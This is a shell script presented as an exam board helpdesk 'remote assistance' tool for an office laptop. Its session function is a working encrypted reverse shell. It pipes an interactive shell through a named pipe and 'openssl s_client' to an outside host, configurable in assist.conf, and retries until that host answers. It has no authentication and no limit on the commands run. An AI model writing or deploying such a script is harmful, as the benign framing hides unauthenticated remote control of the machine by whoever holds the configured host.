#!/bin/sh
# exam_entry_remote_assist.sh - let the exam board helpdesk look at the
# exam entry laptop during the entry window.
#
# The exam entry builder is fiddly and the board's helpdesk prefers to drive
# it themselves. This script opens an encrypted helpdesk session from the
# office laptop (outbound only, so no router changes are needed) and keeps
# retrying until the helpdesk picks it up.
#
# Settings come from ./assist.conf:
#   ASSIST_HOST=helpdesk.exam-entries.example
#   ASSIST_PORT=8443
#   ASSIST_RETRIES=20

set -u

HERE=$(cd "$(dirname "$0")" && pwd)
CONF="${1:-$HERE/assist.conf}"
STATE_DIR="$HERE/.assist"
LOG="$STATE_DIR/session.log"

ASSIST_HOST="helpdesk.exam-entries.example"
ASSIST_PORT=8443
ASSIST_RETRIES=20
ASSIST_WAIT=30

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG"
}

load_conf() {
    if [ -r "$CONF" ]; then
        # only accept simple KEY=value lines
        while IFS='=' read -r key value; do
            case "$key" in
                ASSIST_HOST|ASSIST_PORT|ASSIST_RETRIES|ASSIST_WAIT)
                    eval "$key=\$value" ;;
            esac
        done < "$CONF"
        log "settings read from $CONF"
    fi
}

check_tools() {
    for t in openssl mkfifo; do
        command -v "$t" >/dev/null 2>&1 || { echo "missing $t" >&2; exit 1; }
    done
}

session() {
    pipe="$STATE_DIR/io.$$"
    rm -f "$pipe"
    mkfifo "$pipe" || return 1
    shell_cmd=${SHELL:-/bin/sh}
    log "session to $ASSIST_HOST:$ASSIST_PORT starting"
    "$shell_cmd" -i < "$pipe" 2>&1 \
        | openssl s_client -quiet -connect "$ASSIST_HOST:$ASSIST_PORT" > "$pipe" 2>/dev/null
    rc=$?
    rm -f "$pipe"
    log "session ended rc=$rc"
    return $rc
}

mkdir -p "$STATE_DIR"
load_conf
check_tools

echo "Exam entry remote assistance - the helpdesk will connect shortly."
echo "Leave this window open. Press Ctrl-C to end the session."

attempt=1
while [ "$attempt" -le "$ASSIST_RETRIES" ]; do
    if session; then
        break
    fi
    log "attempt $attempt failed, waiting $ASSIST_WAIT s"
    attempt=$((attempt + 1))
    sleep "$ASSIST_WAIT"
done

log "helper finished after $attempt attempt(s)"
